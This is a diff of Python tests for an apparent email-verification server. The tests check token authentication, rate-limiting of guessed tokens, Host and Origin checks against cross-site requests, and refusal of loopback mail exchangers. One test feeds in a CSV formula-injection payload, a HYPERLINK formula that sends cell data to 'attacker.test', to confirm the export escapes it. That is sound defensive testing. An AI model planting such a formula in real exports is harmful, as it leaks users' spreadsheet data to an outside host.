@@ -19,7 +19,7 @@ from selenium.webdriver.chrome.service import Service
 from selenium.webdriver.common.by import By
 from selenium.webdriver.support.ui import Select, WebDriverWait
 
-from serverlib import CANNOT_VRFY, REJECT, SERVER, ServerTest, wait_for
+from serverlib import CANNOT_VRFY, REJECT, SERVER, ServerTest, smtp_peer, wait_for
 from golden_texts import text as golden  # on the path serverlib set
 
 VERIFIED = golden("verified")
@@ -133,7 +133,7 @@ class Api(ServerTest):
              for method, path in [("POST", "/v1/check"), ("PUT", "/v1/jobs"), ("PATCH", "/v1/jobs/x"),
                                  ("POST", "/v1/preflight")]] + [
             (401, "missing or wrong bearer token", "GET", path, None, {"Authorization": token})
-            for token in [None, "Bearer ", "Bearer " + TOKEN[:-1], "Bearer " + TOKEN + "x", "bearer " + TOKEN,
+            for token in [None, "Bearer ", "Bearer " + TOKEN[:-1], "Bearer " + TOKEN + "x", "Bearer  " + TOKEN,
                           "Basic " + TOKEN] for path in [check_path("a@yes.server.test"), "/metrics", "/v1/jobs",
                                                                     "/v1/preflight"]]
         for code, error, method, path, body, headers in cases:
@@ -143,6 +143,12 @@ class Api(ServerTest):
                 self.assertEqual((status, list(reply), got), (code, ["error"], error))
                 self.assertEqual(head.get("Allow"), allow.get(path) if code == 405 else None)
                 self.assertEqual(head.get("WWW-Authenticate"), 'Bearer realm="verimex"' if code == 401 else None)
+                if code == 401:  # a success in between keeps the brake on failed tokens off
+                    self.assertEqual(self.server.request("GET", "/v1/jobs")[0], 200)
+        # The scheme's name in any case.
+        for scheme in ["bearer", "BEARER", "bEaReR"]:
+            self.assertEqual(self.server.request("GET", "/v1/jobs", headers={"Authorization": scheme + " " + TOKEN})[0],
+                             200, scheme)
 
     def test_job_routes(self):
         self.assertEqual(self.server.json("POST", "/v1/jobs?name=alpha&timeout=1&from=other.example&method=vrfy",
@@ -322,6 +328,134 @@ class Verdicts(ServerTest):
                 self.assertTrue(got["error"].startswith(error.rstrip("*")), got)
 
 
+class BrowserSafety(ServerTest):
+    """What a page of another site can make a browser send here: refused before anything is done."""
+    args = FAST + ["--allow-host", "verimex.server.test", "--allow-host", "Check.Server.Test"]
+
+    def test_host_names_of_this_server_alone(self):
+        port = self.server.port
+        for host, status in [("127.0.0.1:%d" % port, 200), ("LOCALHOST:%d" % port, 200), ("[::1]:%d" % port, 200),
+                             ("verimex.server.test:%d" % port, 200), ("check.server.test", 200),
+                             ("attacker.test:%d" % port, 421), ("localhost.attacker.test:%d" % port, 421),
+                             ("127.0.0.1.attacker.test", 421), ("[::1", 421)]:
+            for path in ["/", "/v1/jobs", "/healthz", check_path("alice@yes.server.test")]:
+                with self.subTest(host=host, path=path):
+                    got, headers, body = self.server.request("GET", path, headers={"Host": host})
+                    self.assertEqual(got, status, body[:100])
+                    if status == 421:
+                        self.assertEqual(json.loads(body), {"error": "Host: not a name of this server "
+                                                                     "(see --allow-host)"})
+
+    def test_pages_of_other_sites_change_and_check_nothing(self):
+        own = "http://127.0.0.1:%d" % self.server.port
+        forbidden = {"error": "Origin: requests that change or check anything are taken from this server's own "
+                              "page only"}
+        body = {"addresses": ["alice@yes.server.test"], "name": "origin"}
+        for origin in ["http://attacker.test", "null", "http://127.0.0.1:1", "https://127.0.0.1:%d" % self.server.port]:
+            for method, path, data in [("POST", "/v1/jobs", body), ("DELETE", job_path("origin"), None),
+                                       ("GET", check_path("alice@yes.server.test"), None),
+                                       ("GET", "/v1/preflight?test_host=mx.yes.server.test&blocklists=", None)]:
+                with self.subTest(origin=origin, method=method, path=path):
+                    self.assertEqual(self.server.json(method, path, data, {"Origin": origin})[::2], (403, forbidden))
+        self.assertEqual(self.server.json("GET", job_path("origin"))[0], 404)  # nothing was made
+        self.assertEqual(self.server.json("POST", "/v1/jobs", body, {"Origin": own})[0], 201)
+        # Reading is the browser's to keep from other sites; scripts send no Origin at all.
+        self.assertEqual(self.server.json("GET", job_path("origin"), None, {"Origin": "http://attacker.test"})[0], 200)
+        self.assertEqual(self.server.json("DELETE", job_path("origin"), None, {"Origin": own})[0], 200)
+
+    def test_a_page_without_the_token_posts_json_alone(self):
+        own = "http://127.0.0.1:%d" % self.server.port
+        listing = b"alice@yes.server.test\n"
+        refused = {"error": "Content-Type: a page must post application/json"}
+        for headers in [{"Origin": own, "Content-Type": "text/plain"},
+                        {"Origin": own, "Content-Type": "application/x-www-form-urlencoded"},
+                        {"Origin": own, "Content-Type": "multipart/form-data; boundary=x"}, {"Origin": own},
+                        {"Sec-Fetch-Site": "same-origin", "Content-Type": "text/plain"},
+                        {"Sec-Fetch-Site": "cross-site", "Content-Type": "text/plain"}]:
+            with self.subTest(headers=headers):
+                self.assertEqual(self.server.json("POST", "/v1/jobs?name=plain", listing, headers)[::2],
+                                 (415, refused))
+        self.assertEqual(self.server.json("GET", job_path("plain"))[0], 404)
+        # curl, scripts and a URL typed in the address bar post text/plain lists as before.
+        for headers in [{"Content-Type": "text/plain"}, {"Content-Type": "text/plain", "Sec-Fetch-Site": "none"}]:
+            self.assertEqual(self.server.json("POST", "/v1/jobs?name=plain", listing, headers)[0], 201)
+        self.assertEqual(self.server.json("POST", "/v1/jobs", {"addresses": ["b@yes.server.test"], "name": "plain"},
+                                          {"Origin": own})[0], 201)
+        # With a token a request is the user's own, whatever its type.
+        server = self.start(*FAST, "--token", TOKEN)
+        self.assertEqual(server.json("POST", "/v1/jobs?name=plain", listing,
+                                     {"Origin": "http://127.0.0.1:%d" % server.port, "Content-Type": "text/plain",
+                                      "Authorization": "Bearer " + TOKEN})[0], 201)
+
+    def test_beyond_loopback_a_token_or_no_token_is_asked_for(self):
+        run = subprocess.run([SERVER, "--listen", "0.0.0.0:0"], capture_output=True, timeout=30, cwd=self.server.cwd)
+        self.assertEqual(run.returncode, 2)
+        self.assertIn(b"verimex-server: listening on 0.0.0.0 without a token would let anyone who reaches it use "
+                      b"this server: give --token or --token-file, or --no-token if that is meant\n", run.stderr)
+        for args in [["--no-token"], ["--token", TOKEN]]:
+            with self.subTest(args=args), tempfile.TemporaryDirectory() as folder:
+                proc = subprocess.Popen([SERVER, "--listen", "0.0.0.0:0", *args], stdout=subprocess.PIPE,
+                                        stderr=subprocess.DEVNULL, cwd=folder)
+                try:
+                    self.assertRegex(proc.stdout.readline(), rb"^verimex-server: listening on http://0\.0\.0\.0:\d+/$")
+                finally:  # at once after the line too, SIGTERM stops it
+                    proc.send_signal(signal.SIGTERM)
+                    self.assertEqual(proc.wait(timeout=30), 0)
+                    proc.stdout.close()
+
+
+class HostileMailServers(ServerTest):
+    FORMULA = '=HYPERLINK("http://attacker.test/?"&A1,"click")'
+
+    def peer(self, **script):
+        peer = smtp_peer.Peer("127.0.0.99", name="mx.hostile.server.test", **script)
+        self.addCleanup(peer.stop)
+        return peer
+
+    def finished(self, server, name, addresses, method):
+        body = {"addresses": addresses, "name": name, "method": method, "timeout": 5}
+        self.assertEqual(server.json("POST", "/v1/jobs", body)[0], 201)
+        self.assertTrue(wait_for(lambda: server.json("GET", job_path(name))[2]["done"] == len(addresses), 30))
+
+    def test_a_reply_made_to_be_a_formula_stays_text_in_csv(self):
+        self.peer(vrfy=self.FORMULA)
+        server = self.start(*FAST)
+        self.finished(server, "formula", ["eve@hostile.server.test", "=1+2@hostile.server.test"], "vrfy")
+        rows = list(csv.DictReader(io.StringIO(server.request("GET", job_path("formula", "/results?format=csv"))[2]
+                                               .decode(), newline="")))
+        self.assertEqual([(r["address"], r["returnvar"]) for r in rows],
+                         [("eve@hostile.server.test", "'" + self.FORMULA + "\r\n"),
+                          ("'=1+2@hostile.server.test", "'" + self.FORMULA + "\r\n")])
+        # The JSON lines as they came.
+        self.assertEqual([(r["address"], r["returnvar"]) for r in server.rows(job_path("formula", "/results"))],
+                         [("eve@hostile.server.test", self.FORMULA + "\r\n"),
+                          ("=1+2@hostile.server.test", self.FORMULA + "\r\n")])
+
+    def test_mail_exchangers_on_loopback_are_refused_unless_allowed(self):
+        peer = self.peer(vrfy="250 2.0.0 someone", mailboxes=["alice"])
+        server = self.start(*FAST, private_mx=False)
+        address, refused = "alice@hostile.server.test", golden("could_not_connect")
+        telnet = "telnet: mx.hostile.server.test\r\nERROR: could not connect to mx.hostile.server.test\r\n"
+        for method in ["rcpt", "auto", "vrfy"]:
+            with self.subTest(method=method):
+                status, _, report = server.json("GET", check_path(address, method=method))
+                self.assertEqual((status, report["returnvar"], report["verified"]), (200, refused, False))
+                self.assertIn(telnet, report["transcript"])
+                if method != "vrfy":  # vrfy answers with the component's members alone
+                    self.assertEqual((report["verdict"], report["reason"]), ("unknown", "refused_address"))
+        for method in ["vrfy", "rcpt"]:
+            self.finished(server, method, [address], method)
+            self.assertEqual([(r["verdict"], r["reason"], r["returnvar"]) for r in server.rows(job_path(method,
+                                                                                                  "/results"))],
+                             [("unknown", "refused_address", refused)])
+        self.assertEqual(peer.connections, 0)
+        # Allowed, the same checks reach it.
+        allowed = self.start(*FAST)
+        for method in ["rcpt", "vrfy"]:
+            self.assertEqual(allowed.json("GET", check_path(address, method=method))[2]["returnvar"], VERIFIED)
+        self.assertGreaterEqual(peer.connections, 2)
+
+
 class OwnServers(ServerTest):
     def test_full_queue_sigterm_and_restart(self):
         store = self.enterContext(tempfile.TemporaryDirectory(prefix="verimex-server-test.")) + "/jobs.sqlite"
@@ -379,6 +513,37 @@ class OwnServers(ServerTest):
         self.assertIn(b"--proxy", run.stdout)
         self.assertNotIn(secret.encode(), run.stdout + run.stderr)
 
+    def test_token_file_and_the_brake_on_guessing(self):
+        folder = self.enterContext(tempfile.TemporaryDirectory(prefix="verimex-token."))
+        with open(folder + "/token", "w") as f:
+            f.write("from-a-file\r\n")
+        server = self.start("--token-file", folder + "/token")
+        right, wrong = {"Authorization": "Bearer from-a-file"}, {"Authorization": "Bearer guess"}
+
+        def took(headers, expect):
+            start = time.monotonic()
+            status, head, _ = server.request("GET", "/v1/jobs", headers=headers)
+            self.assertEqual(status, expect)
+            return time.monotonic() - start, head
+
+        self.assertEqual(took(right, 200)[1].get("Content-Type"), "application/json; charset=utf-8")
+        # Five failures for free, then 250 ms doubling up to 2 s; a success starts the count again.
+        for rounds in range(2):
+            waits = [took(wrong, 401)[0] for _ in range(9)]
+            self.assertTrue(all(w < 0.2 for w in waits[:5]), waits)
+            for wait, least in zip(waits[5:], [0.25, 0.5, 1.0, 2.0]):
+                self.assertTrue(least <= wait < least + 1.0, waits)
+            self.assertLess(took(right, 200)[0], 0.2)
+        for _ in range(6):
+            took(wrong, 401)
+        # Four requests at most wait in the brake; the others are refused at once.
+        conns = [server.send("GET", "/v1/jobs", headers=wrong) for _ in range(7)]
+        answers = [server.answer(c, True) for c in conns]
+        self.assertEqual(sorted(a[0] for a in answers), [401] * 4 + [429] * 3, answers)
+        self.assertEqual({a[1].get("Retry-After") for a in answers if a[0] == 429}, {"2"})
+        self.assertEqual({a[2]["error"] for a in answers if a[0] == 429},
+                         {"too many failed token checks; try again later"})
+
     def test_exit_statuses(self):
         holder = self.enterContext(socket.create_server(("127.0.0.1", 0)))
         store = ["--listen", "127.0.0.1:0", "--store"]
@@ -387,7 +552,10 @@ class OwnServers(ServerTest):
         ] + [(store + [s], 3, b"^verimex-server: ") for s in ["/nonexistent/jobs.sqlite", "postgresql://x@127.0.0.1:1"]
         ] + [(args, 2, b"^verimex-server: ") for args in [["--listen", "nowhere"], ["--listen", "1.2.3.4:99999"],
                                                            ["-t", "40000"], ["-j", "0"], ["--bogus"],
-                                                           ["--proxy", "http://u:pw@127.0.0.1:1"]]]
+                                                           ["--proxy", "http://u:pw@127.0.0.1:1"],
+                                                           ["--token-file", "/nonexistent/token"],
+                                                           ["--token-file", "/dev/null"],
+                                                           ["--token", "x", "--token-file", "/dev/null"]]]
         for args, code, message in cases:
             with self.subTest(args=args), tempfile.TemporaryDirectory() as folder:
                 run = subprocess.run([SERVER, *args], capture_output=True, timeout=30, cwd=folder)
@@ -431,6 +599,15 @@ class OwnServers(ServerTest):
                                                    server.request("GET", "/metrics")[2], re.M))
         self.assertEqual((len(set(by_check)), by_server + len(by_check)), (len(by_check), 200))
         self.assertTrue(by_server > 0 and len(by_check) > 0, by_server)
+        # With the database gone a client learns that the store failed and under which id the log says why; the
+        # database's own words (host, user, database) stay in the log.
+        proc.send_signal(signal.SIGINT)
+        proc.wait(timeout=30)
+        status, headers, body = server.json("GET", "/v1/jobs")
+        self.assertEqual((status, headers.get("Retry-After")), (503, "5"))
+        m = re.fullmatch(r"store unavailable \(error ([0-9a-f]{8}) in the server's log\)", body["error"])
+        self.assertTrue(m, body)
+        self.assertRegex(server.stderr(), r"event=store_error id=%s error=" % m.group(1))
 
 
 class Page(ServerTest):
